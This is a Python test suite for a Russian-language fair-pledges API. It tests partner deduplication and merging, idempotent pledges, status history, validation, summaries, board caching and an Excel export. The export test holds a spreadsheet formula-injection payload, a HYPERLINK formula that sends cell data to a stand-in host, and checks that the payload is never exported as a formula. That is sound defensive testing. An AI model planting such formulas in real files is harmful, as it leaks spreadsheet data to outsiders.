"""Pledges on real servers: partners counted once (409 naming the first, search in Cyrillic, merge), needs,
pledges recorded once per Idempotency-Key with their history, statuses forward only, received amounts that differ,
every bad input refused naming its field with nothing written, summaries, and the board's ETag."""
from __future__ import annotations

import json

import sqlalchemy as sa

from services.fairs.pledges.models import Partner, Pledge, PledgeChange
from tests.support.fair_day import day_fair, day_world

API = "/fairs/api/v1"


def counts(system) -> tuple[int, int, int]:
    with system.runtime("fairs").engine.connect() as conn:
        one = lambda t: conn.execute(sa.select(sa.func.count()).select_from(t)).scalar_one()
        return one(Partner.__table__), one(Pledge.__table__), one(PledgeChange.__table__)


def outbox(system) -> list[str]:
    t = system.runtime("fairs").tables.outbox
    with system.runtime("fairs").engine.connect() as conn:
        return list(conn.execute(sa.select(t.c.routing_key).where(t.c.routing_key.like("fairs.pledge.%")).order_by(t.c.id)).scalars())


def announced(system) -> list[dict]:
    """The bodies of the pledge events in the outbox, oldest first."""
    t = system.runtime("fairs").tables.outbox
    with system.runtime("fairs").engine.connect() as conn:
        bodies = conn.execute(sa.select(t.c.body).where(t.c.routing_key.like("fairs.pledge.%")).order_by(t.c.id)).scalars()
        return [json.loads(body)["data"] for body in bodies]


def test_partners_are_counted_once_found_by_name_and_merged(system):
    w = day_world(system, teams=2, jurors=1)
    f, h = system.client("fairs"), w["h"]
    first = f.post(f"{API}/partners", json={"name": "ООО «Камчатский Лосось»", "kind": "business", "inn": "7707083893",
                                            "phone": "8 914 555-12-34", "email": "Info@Losos.ru"}, headers=h)
    assert first.status_code == 201, first.json
    assert (first.json["inn"], first.json["phone"], first.json["email"]) == ("7707083893", "+79145551234", "info@losos.ru")
    before = counts(system)
    for field, value in (("inn", "7707 083 893"), ("phone", "+7 (914) 555 12 34"), ("email", "INFO@losos.ru")):
        again = f.post(f"{API}/partners", json={"name": "Лосось", field: value}, headers=h)
        assert again.status_code == 409 and list(again.json["errors"]) == [field], again.json
        assert again.json["partner"] == {"id": first.json["id"], "name": "ООО «Камчатский Лосось»"}
        assert "ООО «Камчатский Лосось»" in again.json["errors"][field][0]
    bad_inn = f.post(f"{API}/partners", json={"name": "Фонд", "inn": "7707083894"}, headers=h)
    assert bad_inn.status_code == 422 and bad_inn.json["errors"] == {"inn": ["Контрольные цифры ИНН не сходятся: проверьте номер."]}
    assert f.post(f"{API}/partners", json={"name": "  "}, headers=h).json["errors"] == {"name": ["Введите название партнёра."]}
    assert f.post(f"{API}/partners", json={"name": "Икс", "kind": "alien"}, headers=h).status_code == 422
    assert counts(system) == before

    second = f.post(f"{API}/partners", json={"name": "Администрация Быстринского МР", "kind": "authority",
                                             "email": "adm@essobmr.ru"}, headers=h).json
    person = f.post(f"{API}/partners", json={"name": "Пётр Ёлкин", "kind": "person", "anonymous": True}, headers=h).json
    found = f.get(f"{API}/partners?q=ЕЛКИН", headers=h).json
    assert set(found) == {"items", "total", "page", "per_page"} and [p["id"] for p in found["items"]] == [person["id"]]
    assert [p["name"] for p in f.get(f"{API}/partners?q=быстрин", headers=h).json["items"]] == ["Администрация Быстринского МР"]
    assert f.get(f"{API}/partners?q=%25", headers=h).json["total"] == 0  # a % is a character, not a wildcard
    assert f.get(f"{API}/partners", headers={}).status_code == 401

    # a duplicate entered by mistake, merged: its pledges move, its contacts fill the gaps, it points to the survivor
    fair = day_fair(system, w)
    twin = f.post(f"{API}/partners", json={"name": "Камчатский лосось (дубль)", "phone": "+79140000001"}, headers=h).json
    pledge = f.post(f"{API}/fairs/{fair['id']}/pledges", json={"pitch_id": fair["pitches"][0]["id"], "partner_id": twin["id"],
                                                               "kind": "money", "amount": 1000}, headers=h).json
    assert f.post(f"{API}/partners/{first.json['id']}/merge", json={"other_id": first.json["id"]}, headers=h).status_code == 422
    merged = f.post(f"{API}/partners/{first.json['id']}/merge", json={"other_id": twin["id"]}, headers=h)
    assert merged.status_code == 200 and merged.json["phone"] == "+79145551234"
    assert f.get(f"{API}/pledges/{pledge['id']}", headers=h).json["partner_id"] == first.json["id"]
    assert f.get(f"{API}/partners/{twin['id']}", headers=h).json["id"] == first.json["id"]
    assert twin["id"] not in [p["id"] for p in f.get(f"{API}/partners", headers=h).json["items"]]
    moved = f.get(f"{API}/pledges/{pledge['id']}/history", headers=h).json["items"]
    assert [(c["field"], c["old_value"], c["new_value"]) for c in moved][-1] == ("partner_id", str(twin["id"]), str(first.json["id"]))
    # the twin's phone is free again for its owner's survivor only: a new partner with it is a duplicate of nobody
    assert f.post(f"{API}/partners", json={"name": "Новый", "phone": "+79140000001"}, headers=h).status_code == 201
    assert second["kind"] == "authority"


def test_a_pledge_is_recorded_once_with_its_history_and_bad_input_writes_nothing(system):
    w = day_world(system, teams=3, jurors=1)
    f, h = system.client("fairs"), w["h"]
    fair = day_fair(system, w, open_it=False)
    base = f"{API}/fairs/{fair['id']}"
    p1, p2, p3 = (p["id"] for p in fair["pitches"])
    need = f.post(f"{base}/needs", json={"pitch_id": p1, "kind": "in_kind", "description": "Автобус на 40 детей, 2 дня",
                                         "amount": "30 000"}, headers=h)
    assert need.status_code == 201 and need.json["amount"] == "30000.00"
    assert f.post(f"{base}/needs", json={"pitch_id": p1, "kind": "money", "amount": 150000}, headers=h).status_code == 201
    assert f.post(f"{base}/needs", json={"pitch_id": p1, "kind": "in_kind", "amount": 5}, headers=h).json["errors"] == {
        "description": ["Опишите помощь натурой (что, сколько, на какой срок)."]}
    money = {"pitch_id": p1, "partner": "ИП Иванова", "kind": "money", "amount": "12 500", "note": "объявлено со сцены"}

    early = f.post(f"{base}/pledges", json=money, headers=h)
    assert early.status_code == 409 and early.json["reason"] == "draft" and list(early.json["errors"]) == ["fair"]
    assert early.json["message"] == "Ярмарка ещё не открыта: обещания принимаются с её открытия."
    assert f.patch(base, json={"state": "open"}, headers=h).status_code == 200
    assert counts(system) == (0, 0, 0)

    key = {"Idempotency-Key": "desk-1-0001", **h}
    one = f.post(f"{base}/pledges", json=money, headers=key)
    assert one.status_code == 201, one.json
    twice = f.post(f"{base}/pledges", json=money, headers=key)  # the phone resent it: the same answer, one pledge
    assert twice.status_code == 201 and twice.json["id"] == one.json["id"]
    assert counts(system) == (1, 1, 1)
    assert (one.json["partner"], one.json["amount"], one.json["status"], one.json["team_name"]) == ("ИП Иванова", "12500.00", "pledged", "Эссо-тур")
    # the same name again is the same partner, whatever its case or ё
    again = f.post(f"{base}/pledges", json={**money, "partner": "ип иванова", "amount": 500}, headers=h)
    assert again.json["partner_id"] == one.json["partner_id"]
    in_kind = f.post(f"{base}/pledges", json={"pitch_id": p1, "partner": "Автобаза №3", "new_partner": {"kind": "business", "inn": "500100732259"},
                                              "kind": "in_kind", "description": "Автобус на 2 дня", "amount": 30000, "need_id": need.json["id"]}, headers=h)
    assert in_kind.status_code == 201 and in_kind.json["need_id"] == need.json["id"]
    assert f.get(f"{API}/partners/{in_kind.json['partner_id']}", headers=h).json["inn"] == "500100732259"
    written = counts(system)

    bad = [
        ({**money, "amount": -5}, 422, "amount", "Сумма должна быть больше нуля."),
        ({**money, "amount": 0}, 422, "amount", "Сумма должна быть больше нуля."),
        ({**money, "amount": "двенадцать"}, 422, "amount", "Введите сумму в рублях числом, например 12500."),
        ({**money, "amount": None}, 422, "amount", "Введите сумму денежного обещания."),
        ({"pitch_id": p1, "partner": "Кто-то", "kind": "in_kind", "amount": 100}, 422, "description",
         "Опишите помощь натурой (что, сколько, на какой срок)."),
        ({**money, "pitch_id": 987654}, 422, "pitch_id", "В программе этой ярмарки нет такого проекта."),
        ({**money, "partner": " "}, 422, "partner", "Выберите партнёра или введите имя нового."),
        ({**money, "partner": None, "partner_id": 987654}, 422, "partner_id", "Нет такого партнёра."),
        ({**money, "need_id": need.json["id"], "pitch_id": p2}, 422, "need_id", "Эта потребность не относится к выбранному проекту."),
        ({"pitch_id": p1, "partner": "Новый фонд", "new_partner": {"inn": "123"}, "kind": "money", "amount": 5}, 422, "inn", None),
        ({**money, "kind": "shares"}, 422, "kind", None),
    ]
    for body, status, field, message in bad:
        r = f.post(f"{base}/pledges", json=body, headers={"Idempotency-Key": f"bad-{field}", **h})
        assert r.status_code == status and list(r.json["errors"]) == [field], (body, r.json)
        if message:
            assert r.json["errors"][field] == [message]
    # a partner with the INN of another, typed at the desk as new: refused naming the first, nothing written
    dup = f.post(f"{base}/pledges", json={"pitch_id": p1, "partner": "Автобаза 3", "new_partner": {"inn": "500100732259"},
                                          "kind": "money", "amount": 5}, headers=h)
    assert dup.status_code == 409 and list(dup.json["errors"]) == ["inn"] and dup.json["partner"]["name"] == "Автобаза №3"
    assert counts(system) == written

    # a project of another fair's lineup, and a project dropped from this lineup, take no pledge here
    other = day_fair(system, w, open_it=False)
    assert f.post(f"{base}/pledges", json={**money, "pitch_id": other["pitches"][0]["id"]}, headers=h).json["errors"] == {
        "pitch_id": ["В программе этой ярмарки нет такого проекта."]}
    with system.runtime("fairs").engine.begin() as conn:
        conn.execute(sa.text("UPDATE pitches SET active = false WHERE id = :id"), {"id": p3})
    assert f.post(f"{base}/pledges", json={**money, "pitch_id": p3}, headers=h).status_code == 422
    assert outbox(system) == ["fairs.pledge.recorded"] * 3


def test_a_pledge_moves_forward_to_received_with_another_amount_and_its_history(system):
    w = day_world(system, teams=2, jurors=1)
    f, h = system.client("fairs"), w["h"]
    fair = day_fair(system, w)
    base = f"{API}/fairs/{fair['id']}"
    p1, p2 = (p["id"] for p in fair["pitches"])
    a = f.post(f"{base}/pledges", json={"pitch_id": p1, "partner": "ИП Иванова", "kind": "money", "amount": 12500}, headers=h).json
    b = f.post(f"{base}/pledges", json={"pitch_id": p2, "partner": "Пётр Ёлкин", "new_partner": {"kind": "person", "anonymous": True},
                                        "kind": "in_kind", "description": "Зал для мастер-класса", "amount": 8000}, headers=h).json
    c = f.post(f"{base}/pledges", json={"pitch_id": p2, "partner": "ИП Иванова", "kind": "money", "amount": 3000}, headers=h).json
    one = lambda pid: f"{API}/pledges/{pid}"

    assert f.patch(one(a["id"]), json={"status": "confirmed"}, headers=h).json["status"] == "confirmed"
    back = f.patch(one(a["id"]), json={"status": "pledged"}, headers=h)
    assert back.status_code == 409 and list(back.json["errors"]) == ["status"]
    early_amount = f.patch(one(a["id"]), json={"received_amount": 100}, headers=h)
    assert early_amount.status_code == 422 and list(early_amount.json["errors"]) == ["received_amount"]
    got = f.patch(one(a["id"]), json={"status": "received", "received_amount": "10 000"}, headers=h)
    assert got.status_code == 200 and (got.json["status"], got.json["received_amount"]) == ("received", "10000.00")
    assert f.patch(one(a["id"]), json={"status": "withdrawn", "reason": "ошибка"}, headers=h).status_code == 409

    assert f.patch(one(c["id"]), json={"status": "withdrawn"}, headers=h).json["errors"] == {"reason": ["Укажите, почему обещание отозвано."]}
    gone = f.patch(one(c["id"]), json={"status": "withdrawn", "reason": "партнёр передумал"}, headers=h)
    assert gone.status_code == 200 and gone.json["withdrawn_reason"] == "партнёр передумал"
    late = f.patch(one(c["id"]), json={"status": "received", "received_amount": 3000}, headers=h)
    assert late.status_code == 409 and list(late.json["errors"]) in (["status"], ["received_amount"])
    on_withdrawn = f.patch(one(c["id"]), json={"received_amount": 3000}, headers=h)
    assert on_withdrawn.status_code == 409 and list(on_withdrawn.json["errors"]) == ["received_amount"]
    assert on_withdrawn.json["errors"]["received_amount"] == ["Это обещание отозвано: у него нет полученной суммы."]

    fixed = f.patch(one(b["id"]), json={"amount": 9000}, headers=h)
    assert fixed.status_code == 422 and list(fixed.json["errors"]) == ["reason"]
    fixed = f.patch(one(b["id"]), json={"amount": 9000, "description": "Зал на два дня", "reason": "уточнили"}, headers=h)
    assert fixed.status_code == 200 and (fixed.json["amount"], fixed.json["description"]) == ("9000.00", "Зал на два дня")
    history = f.get(f"{one(b['id'])}/history", headers=h).json["items"]
    assert [(x["field"], x["old_value"], x["new_value"], x["reason"]) for x in history] == [
        ("recorded", None, "pledged", None), ("amount", "8000.00", "9000.00", "уточнили"),
        ("description", "Зал для мастер-класса", "Зал на два дня", "уточнили")]
    assert all(x["actor_name"] and x["at"] for x in history)
    same = f.patch(one(b["id"]), json={"amount": 9000, "reason": "ещё раз"}, headers=h)  # nothing new: nothing written
    assert same.json["version"] == fixed.json["version"]

    listed = f.get(f"{base}/pledges", headers=h).json
    assert set(listed) == {"items", "total", "page", "per_page"} and listed["total"] == 3
    assert [p["id"] for p in f.get(f"{base}/pledges?outstanding=true", headers=h).json["items"]] == [b["id"]]
    assert [p["id"] for p in f.get(f"{base}/pledges?status=withdrawn", headers=h).json["items"]] == [c["id"]]
    assert f.get(f"{base}/pledges?status=lost", headers=h).status_code == 422

    projects = {p["pitch_id"]: p for p in f.get(f"{base}/pledge-summary/projects", headers=h).json["items"]}
    assert (projects[p1]["money"], projects[p1]["money_received"], projects[p1]["in_kind"]) == ("10000.00", "10000.00", "0.00")
    assert (projects[p2]["money"], projects[p2]["in_kind"], projects[p2]["pledges"]) == ("0.00", "9000.00", 1)
    partners = f.get(f"{base}/pledge-summary/partners", headers=h).json["items"]
    assert [(p["partner"], p["money"], p["in_kind"]) for p in partners] == [("ИП Иванова", "10000.00", "0.00"), ("Пётр Ёлкин", "0.00", "9000.00")]
    assert outbox(system) == ["fairs.pledge.recorded"] * 3 + ["fairs.pledge.updated"] * 4


def test_pledges_stop_when_the_results_are_published_but_follow_up_goes_on(system):
    w = day_world(system, teams=2, jurors=1)
    f, h = system.client("fairs"), w["h"]
    fair = day_fair(system, w)
    base = f"{API}/fairs/{fair['id']}"
    body = {"pitch_id": fair["pitches"][0]["id"], "partner": "ИП Иванова", "kind": "money", "amount": 500}
    made = f.post(f"{base}/pledges", json=body, headers=h).json
    assert f.patch(base, json={"state": "closed"}, headers=h).status_code == 200
    assert f.post(f"{base}/pledges", json=body, headers=h).status_code == 201  # the awards: still taken
    with system.runtime("fairs").engine.begin() as conn:  # published as the results would publish it
        conn.execute(sa.text("UPDATE fairs SET state = 'published', published_at = now() WHERE id = :id"), {"id": fair["id"]})
    late = f.post(f"{base}/pledges", json=body, headers=h)
    assert late.status_code == 409 and late.json["reason"] == "published" and list(late.json["errors"]) == ["fair"]
    assert f.patch(f"{API}/pledges/{made['id']}", json={"status": "received"}, headers=h).json["received_amount"] == "500.00"


def test_the_board_answers_304_while_nothing_changed(system):
    w = day_world(system, teams=2, jurors=1)
    f, h = system.client("fairs"), w["h"]
    fair = day_fair(system, w)
    base = f"{API}/fairs/{fair['id']}"
    p1 = fair["pitches"][0]["id"]
    assert f.post(f"{base}/needs", json={"pitch_id": p1, "kind": "money", "amount": 50000}, headers=h).status_code == 201
    first = f.get(f"{base}/pledge-board", headers=h)
    assert first.status_code == 200 and first.headers["ETag"].startswith('W/"')
    assert first.json["totals"]["money_text"] == "0\u00a0₽" and first.json["newest"] == []
    assert f.get(f"{base}/pledge-board", headers={"If-None-Match": first.headers["ETag"], **h}).status_code == 304
    f.post(f"{base}/pledges", json={"pitch_id": p1, "partner": "Пётр Ёлкин", "new_partner": {"kind": "person", "anonymous": True},
                                    "kind": "money", "amount": 12500}, headers=h)
    second = f.get(f"{base}/pledge-board", headers={"If-None-Match": first.headers["ETag"], **h})
    assert second.status_code == 200 and second.headers["ETag"] != first.headers["ETag"]
    board = second.json
    assert board["totals"]["money_text"] == "12\u00a0500\u00a0₽" and board["totals"]["in_kind_text"] == "0\u00a0₽"
    assert [(n["partner"], n["amount_text"]) for n in board["newest"]] == [("анонимный партнёр", "12\u00a0500\u00a0₽")]
    assert "Пётр" not in second.text
    project = board["projects"][0]
    assert (project["money_text"], project["money_needed_text"]) == ("12\u00a0500\u00a0₽", "50\u00a0000\u00a0₽")
    assert f.get(f"{base}/pledge-board?lang=en", headers=h).json["newest"][0]["partner"] == "anonymous partner"
    assert f.get(f"{base}/pledge-board").status_code == 401


def test_the_export_lists_every_pledge_and_the_summaries_and_no_cell_is_a_formula(system):
    import io

    from openpyxl import load_workbook

    w = day_world(system, teams=2, jurors=1)
    f, h = system.client("fairs"), w["h"]
    fair = day_fair(system, w)
    base = f"{API}/fairs/{fair['id']}"
    p1 = fair["pitches"][0]["id"]
    evil = '=HYPERLINK("http://evil.example/?"&A1,"Открыть")'
    made = f.post(f"{base}/pledges", json={"pitch_id": p1, "partner": evil, "kind": "money", "amount": 12500}, headers=h).json
    f.post(f"{base}/pledges", json={"pitch_id": p1, "partner": "Автобаза №3", "kind": "in_kind", "description": "+Автобус",
                                    "amount": 30000}, headers=h)
    r = f.get(f"{base}/pledges.xlsx", headers=h)
    assert r.status_code == 200 and r.headers["Content-Type"].startswith("application/vnd.openxmlformats")
    book = load_workbook(io.BytesIO(r.data))
    assert book.sheetnames == ["Обещания", "По проектам", "По партнёрам"]
    rows = list(book["Обещания"].iter_rows(values_only=True))
    assert rows[0][:3] == ("№", "Записано", "Партнёр") and len(rows) == 3
    assert rows[1][2] == evil and rows[1][7] == 12500 and rows[2][8] == "+Автобус"
    import datetime as dt
    import zoneinfo

    recorded = dt.datetime.fromisoformat(made["created_at"]).astimezone(zoneinfo.ZoneInfo("Asia/Kamchatka")).replace(tzinfo=None)
    assert abs((rows[1][1] - recorded).total_seconds()) < 0.001  # the programme's wall clock, not UTC
    cells = [c for row in book["Обещания"].iter_rows() for c in row]
    assert all(c.data_type != "f" for c in cells)
    projects = list(book["По проектам"].iter_rows(values_only=True))
    assert projects[1][1] == "Эссо-тур" and projects[1][4] == 2 and projects[1][5] == 12500 and projects[1][8] == 30000
    assert f.get(f"{base}/pledges.xlsx").status_code == 401


def test_a_partner_corrected_or_turned_anonymous_later_is_announced_again(system):
    w = day_world(system, teams=2, jurors=1)
    f, h = system.client("fairs"), w["h"]
    fair = day_fair(system, w)
    base = f"{API}/fairs/{fair['id']}"
    pledge = f.post(f"{base}/pledges", json={"pitch_id": fair["pitches"][0]["id"], "partner": "ИП Иванова", "kind": "money",
                                             "amount": 12500}, headers=h).json
    other = f.post(f"{API}/partners", json={"name": "Фонд «Берег»", "phone": "+79145550000"}, headers=h).json
    pid = pledge["partner_id"]
    taken = f.patch(f"{API}/partners/{pid}", json={"phone": "8 914 555 00 00"}, headers=h)
    assert taken.status_code == 409 and list(taken.json["errors"]) == ["phone"] and taken.json["partner"]["id"] == other["id"]
    assert f.patch(f"{API}/partners/{pid}", json={"inn": "12"}, headers=h).json["errors"] == {
        "inn": ["В ИНН 10 цифр (организация) или 12 (физическое лицо или ИП)."]}
    assert f.patch(f"{API}/partners/{pid}", json={"phone": "+7 914 555 11 11"}, headers=h).json["phone"] == "+79145551111"
    assert outbox(system) == ["fairs.pledge.recorded"]  # a contact is not shown anywhere: nothing to announce
    hidden = f.patch(f"{API}/partners/{pid}", json={"anonymous": True}, headers=h)
    assert hidden.status_code == 200 and hidden.json["anonymous"] is True and hidden.json["name"] == "ИП Иванова"
    assert outbox(system) == ["fairs.pledge.recorded", "fairs.pledge.updated"]
    board = f.get(f"{base}/pledge-board", headers=h).json
    assert [n["partner"] for n in board["newest"]] == ["анонимный партнёр"]
    assert f.get(f"{API}/pledges/{pledge['id']}", headers=h).json["version"] == 2
    # a kind corrected is announced too: the funder's report splits the funds by it
    assert announced(system)[-1]["partner_kind"] == "business"
    assert f.patch(f"{API}/partners/{pid}", json={"kind": "authority"}, headers=h).status_code == 200
    assert outbox(system) == ["fairs.pledge.recorded"] + ["fairs.pledge.updated"] * 2
    assert announced(system)[-1]["partner_kind"] == "authority" and announced(system)[-1]["id"] == pledge["id"]
